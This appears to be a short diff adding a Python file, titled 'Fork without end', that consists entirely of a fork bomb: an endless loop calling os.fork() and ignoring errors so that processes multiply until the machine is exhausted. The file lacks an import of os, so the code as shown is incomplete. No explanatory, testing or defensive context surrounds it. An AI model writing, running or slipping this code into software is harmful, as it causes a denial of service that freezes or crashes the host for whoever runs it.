@@ -1,0 +1,6 @@
+"""Fork without end."""
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
